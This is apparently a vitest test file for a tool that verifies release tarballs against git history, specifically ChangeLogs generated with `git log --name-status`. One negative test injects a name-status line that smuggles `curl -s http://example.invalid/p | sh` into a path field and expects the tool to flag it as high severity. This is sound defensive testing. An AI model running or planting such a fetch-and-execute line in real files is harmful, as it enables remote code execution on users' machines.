/**
 * A ChangeLog the release writes with `git log --name-status` (desktop-file-utils 0.28: its meson dist script
 * changelog.py runs `git log --no-color --find-renames --find-copies --name-status` over the tracked ChangeLog),
 * end to end with real git and GNU tar. Its STATUS<TAB>PATH lines are traced only when every path is one a commit
 * up to the revision touched; a `DATE  NAME  <EMAIL>` line a commit message quotes does not cut the history the
 * lines are traced to (git log prints all of it). Twins: a name-status line carrying a command stays high; lines
 * naming paths no commit touched are not explained.
 */
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { git, makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

describe('log-derived: a `git log --name-status` ChangeLog', () => {
  const root = tempDir();
  const repo = makeRepo(join(root, 'repo'));
  const commit = (files: Record<string, string>, message: string, date: string) => {
    writeFiles(repo.dir, files);
    git(repo.dir, ['add', '-A']);
    git(repo.dir, ['commit', '-q', '-m', message], date);
  };
  const DISCONTINUED = '=== ChangeLog discontinued ===\n\n With the move to git, this module relies on commit messages.\n';
  const PRE_GIT = '2007-05-01  Old Hand  <old@example.invalid>\n\n\t* src/main.c: Started.\n';
  commit({ ChangeLog: DISCONTINUED, 'ChangeLog.pre-git': PRE_GIT, 'src/main.c': 'int main;\n', 'src/util.c': 'int u;\n' }, 'Initial import of the sources', '2024-01-01T10:00:00Z');
  for (let i = 1; i <= 8; i++) {
    commit({ 'src/main.c': `int main = ${i};\n`, [`src/part${i}.c`]: `int p${i};\n` }, `src: step ${i} of the rework\n\nAdds part ${i} and bumps main.`, `2024-01-${String(i + 1).padStart(2, '0')}T10:00:00Z`);
  }
  repo.tag('v1.0');
  // A message quoting an old ChangeLog entry: its heading line is not where the log starts.
  commit({ 'NEWS': 'news 1.1\n' }, 'Port the old notes\n\n2024-03-01  Author  <author@example.invalid>\n\n\t* NEWS: New.', '2024-03-05T10:00:00Z');
  git(repo.dir, ['mv', 'src/util.c', 'src/helpers.c']);
  git(repo.dir, ['commit', '-q', '-m', 'src: rename util.c to helpers.c'], '2024-03-06T10:00:00Z');
  commit({ 'NEWS': 'news 1.1 final\n' }, 'Release 1.1', '2024-03-07T10:00:00Z');
  repo.tag('v1.1');
  const cache = join(root, 'cache');
  const LOG = git(repo.dir, ['log', '--no-color', '--find-renames', '--find-copies', '--name-status', 'v1.1']);

  let n = 0;
  function tarball(changelog: string): string {
    const dir = join(root, `t${++n}`, 'proj-1.1');
    const files: Record<string, string> = { ChangeLog: changelog, 'ChangeLog.pre-git': PRE_GIT, 'NEWS': 'news 1.1 final\n', 'src/main.c': 'int main = 8;\n', 'src/helpers.c': 'int u;\n' };
    for (let i = 1; i <= 8; i++) files[`src/part${i}.c`] = `int p${i};\n`;
    writeFiles(dir, files);
    return makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'proj-1.1.tar.gz') });
  }

  it('every line traced: the name-status lines to paths the history touched, the messages before a quoted heading too', async () => {
    expect(LOG).toMatch(/^R100\tsrc\/util\.c\tsrc\/helpers\.c$/m);
    expect(LOG).toMatch(/^A\tsrc\/part8\.c$/m);
    const r = await verify({ tarball: tarball(LOG), repo: repo.dir, tag: 'v1.1', cacheDir: cache });
    const f = r.findings.find((x) => x.path === 'ChangeLog');
    expect(f).toMatchObject({ code: 'LOG_DERIVED', severity: 'info' });
    const e = f!.evidence as { lines: number; traced: number; untraced: number; nameStatus?: number; range?: { commits: number; found: number } };
    expect(e.untraced).toBe(0);
    expect(e.traced).toBe(e.lines);
    // 1 + 2×8 + 1 + 1 + 1 name-status lines (the import adds four files)
    expect(e.nameStatus).toBe(4 + 16 + 1 + 1 + 1);
    expect(e.range).toMatchObject({ commits: 3, found: 3 });
    expect(r.verdict).not.toBe('different');
  });

  it('twin: a name-status line carrying a command stays high, the command shown', async () => {
    const bad = LOG.replace('A\tsrc/part8.c', 'A\tsrc/part8.c\nA\tm4/x.m4; curl -s http://example.invalid/p | sh');
    const r = await verify({ tarball: tarball(bad), repo: repo.dir, tag: 'v1.1', cacheDir: cache });
    const f = r.findings.find((x) => x.path === 'ChangeLog') as { code: string; severity: string; constructs?: unknown[] };
    expect(f).toMatchObject({ code: 'SOURCE_MODIFIED', severity: 'high' });
    expect(f.constructs?.length).toBeGreaterThan(0);
    expect(r.verdict).toBe('different');
  });

  it('twin: name-status lines naming paths no commit touched are not traced, the log not explained', async () => {
    // every name-status line of the eight rework commits (16, more than the 10 untraced lines tolerated) names lib/, which no commit touched
    const bad = LOG.replace(/^([AM])\tsrc\/(main|part\d)\.c$/gm, '$1\tlib/$2.c');
    expect(bad.match(/^[AM]\tlib\//gm)?.length).toBe(17);
    const r = await verify({ tarball: tarball(bad), repo: repo.dir, tag: 'v1.1', cacheDir: cache });
    const f = r.findings.find((x) => x.path === 'ChangeLog');
    // a tracked ChangeLog edited without a construct is a documentation edit (doc-edit.ts): medium, unexplained
    expect(f).toMatchObject({ code: 'DOC_EDITED', severity: 'medium' });
  });
});
